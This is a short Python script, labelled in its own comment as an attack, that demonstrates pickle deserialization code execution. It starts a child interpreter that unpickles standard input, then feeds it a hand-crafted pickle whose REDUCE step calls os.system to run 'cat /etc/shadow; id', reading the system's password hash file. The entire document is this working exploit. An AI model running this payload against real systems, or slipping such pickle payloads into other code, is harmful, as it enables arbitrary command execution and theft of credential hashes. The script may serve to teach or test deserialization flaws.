# attack: start a child interpreter that unpickles its stdin, and feed it a pickle whose REDUCE calls os.system
import subprocess
import sys

LOADER = "import pickle, sys; pickle.loads(sys.stdin.buffer.read())"
payload = b"cos\nsystem\n(S'cat /etc/shadow; id'\ntR."
subprocess.run([sys.executable, "-c", LOADER], input=payload)
